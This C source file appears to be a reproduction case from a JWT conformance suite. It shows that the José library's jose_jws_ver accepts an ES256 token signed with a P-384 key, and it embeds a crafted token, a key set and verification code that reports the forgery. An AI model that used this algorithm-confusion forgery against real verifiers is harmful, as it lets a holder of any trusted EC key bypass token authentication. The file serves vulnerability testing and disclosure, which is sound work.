/* José 11 verifies an ES256 token whose signature was made with a P-384 key over SHA-256: the
 * header's alg picks the hash, and nothing binds ES256 to P-256. Whoever controls any EC key the
 * verifier trusts, on any curve, signs under every ES* algorithm the application meant to allow
 * for other keys only.
 *
 * RFC 8725 §3.1 (RFC8725-3.1-alg): "The library MUST ensure that the "alg" or "enc" header
 * specifies the same algorithm that is used for the cryptographic operation. Moreover, each key
 * MUST be used with exactly one algorithm, and this MUST be checked when the cryptographic
 * operation is performed." RFC 7518 §3.4: ES256 is ECDSA using P-256 and SHA-256.
 *
 * Reproduces: ecdsa/es256-signed-by-p384-key (forgery)
 *
 * José is configured exactly as the jwt-conformance adapter does (adapters/latchset-
 * jose/adapter.c): the compact token turned into the flattened JWS object as the jose command's
 * reader does, the key set parsed with jansson and given whole to jose_jws_ver(NULL, jws, NULL,
 * set, false). José verifies signatures only and has no algorithm, issuer, audience, clock or typ
 * setting (the vector's profile: issuer https://issuer.example, audience https://api.example,
 * algorithms [ES256, ES384], now 1700000000).
 *
 * Run (Debian libjose-dev installed): bash scripts/setup/c.sh && adapters/latchset-jose/bin/repro-curve
 * or: gcc -o repro-curve adapters/latchset-jose/repro-curve.c $(pkg-config --cflags --libs jose jansson) && ./repro-curve
 */
#include <stdbool.h>
#include <stdio.h>
#include <string.h>

#include <jose/jose.h>

#define ID "ecdsa/es256-signed-by-p384-key"
#define WHAT "an ES256 token signed by a P-384 key"

static const char TOKEN[] =
    "eyJhbGciOiJFUzI1NiIsImtpZCI6InAzODQiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY"
    "2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1Z"
    "XIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.N30x3JTCnci3wq"
    "aq4oLiNFeCpUTyiKqd5Z-XiC50OdAppf5Tm56D0KcHd45470xYdPimEN-t-nlkRYVRJmhaP0IVHn25qq4hWYWaf9IZOkc_pw-KO3"
    "OktxWh8yTubw4u";
static const char JWKS[] =
    "{\"keys\":[{\"crv\":\"P-384\",\"kid\":\"p384\",\"kty\":\"EC\",\"use\":\"sig\",\"x\":\"L7sEUkkF-LfDYiaMeKV6kzFD7oBQ0ti2LVU"
    "PxjhIz_-4-bQHzRPIfnR2RA8o0x5k\",\"y\":\"Mz9ugU5C1rbjCMja3boHI2sceo1S0gTT7GM0IJrxqMsC41GAv2t44bbOw4ocU9Al"
    "\"}]}";

/* The flattened JWS object José's compact reader (cmd/jose.c parse_compact) makes of a token,
 * exactly as the adapter builds it (libjose takes JSON JWS objects only). */
static json_t *compact_to_json(const char *token, size_t len)
{
    static const char *const fields[] = {"protected", "payload", "signature"};
    json_t *jws = json_object();
    size_t i = 0;
    for (size_t j = 0; j < 3 && jws; j++) {
        const char *dot = i < len ? memchr(token + i, '.', len - i) : NULL;
        size_t n = dot ? (size_t)(dot - (token + i)) : i < len ? len - i : 0;
        if (!dot && j < 2)
            goto refused;
        for (size_t k = 0; k < n; k++)
            if (!strchr(JOSE_B64_MAP, token[i + k]))
                goto refused;
        if (json_object_set_new(jws, fields[j], json_stringn(token + i, n)) < 0)
            goto refused;
        i += n + 1;
    }
    return jws;
refused:
    json_decref(jws);
    return NULL;
}

int main(void)
{
    json_t *set = json_loads(JWKS, JSON_ALLOW_NUL, NULL);
    json_t *jws = compact_to_json(TOKEN, strlen(TOKEN));
    bool accepted = set && jws && jose_jws_ver(NULL, jws, NULL, set, false);
    json_t *claims = accepted ? jose_b64_dec_load(json_object_get(jws, "payload")) : NULL;
    const char *sub = json_string_value(json_object_get(claims, "sub"));
    if (accepted)
        printf("REPRODUCED %s: jose_jws_ver accepted %s (sub \"%s\")\n", ID, WHAT, sub ? sub : "?");
    else
        printf("NOT REPRODUCED %s: jose_jws_ver refused the token\n", ID);
    json_decref(claims);
    json_decref(jws);
    json_decref(set);
    return accepted ? 0 : 1;
}
